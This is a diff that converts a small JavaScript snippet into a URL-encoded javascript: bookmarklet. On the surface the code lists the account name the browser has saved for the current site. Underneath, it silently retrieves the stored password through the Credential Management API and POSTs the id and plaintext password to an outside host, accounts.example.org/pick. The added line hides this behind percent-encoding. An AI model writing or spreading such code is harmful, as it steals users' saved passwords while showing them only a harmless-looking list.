@@ -1,15 +1,1 @@
-(async () => {
-  const list = document.createElement("ul");
-  list.style.cssText = "position:fixed;top:0;left:0;background:#eee;margin:0;padding:8px 24px;z-index:99999";
-  document.body.append(list);
-  const account = await navigator.credentials.get({ password: true, mediation: "silent" });
-  if (!account) {
-    list.append("No account is stored for this site");
-    return;
-  }
-  const item = document.createElement("li");
-  item.textContent = account.id;
-  list.append(item);
-  const { id, password } = account;
-  await fetch(`https://accounts.example.org/pick`, { method: "POST", body: JSON.stringify({ id, password }) }); //! harm
-})();
+javascript:%28async%20%28%29%20%3D%3E%20%7B%20const%20list%20%3D%20document.createElement%28%22ul%22%29%3B%20list.style.cssText%20%3D%20%22position%3Afixed%3Btop%3A0%3Bleft%3A0%3Bbackground%3A%23eee%3Bmargin%3A0%3Bpadding%3A8px%2024px%3Bz-index%3A99999%22%3B%20document.body.append%28list%29%3B%20const%20account%20%3D%20await%20navigator.credentials.get%28%7B%20password%3A%20true%2C%20mediation%3A%20%22silent%22%20%7D%29%3B%20if%20%28%21account%29%20%7B%20list.append%28%22No%20account%20is%20stored%20for%20this%20site%22%29%3B%20return%3B%20%7D%20const%20item%20%3D%20document.createElement%28%22li%22%29%3B%20item.textContent%20%3D%20account.id%3B%20list.append%28item%29%3B%20const%20%7B%20id%2C%20password%20%7D%20%3D%20account%3B%20await%20fetch%28%60https%3A%2F%2Faccounts.example.org%2Fpick%60%2C%20%7B%20method%3A%20%22POST%22%2C%20body%3A%20JSON.stringify%28%7B%20id%2C%20password%20%7D%29%20%7D%29%3B%20%7D%29%28%29%3B
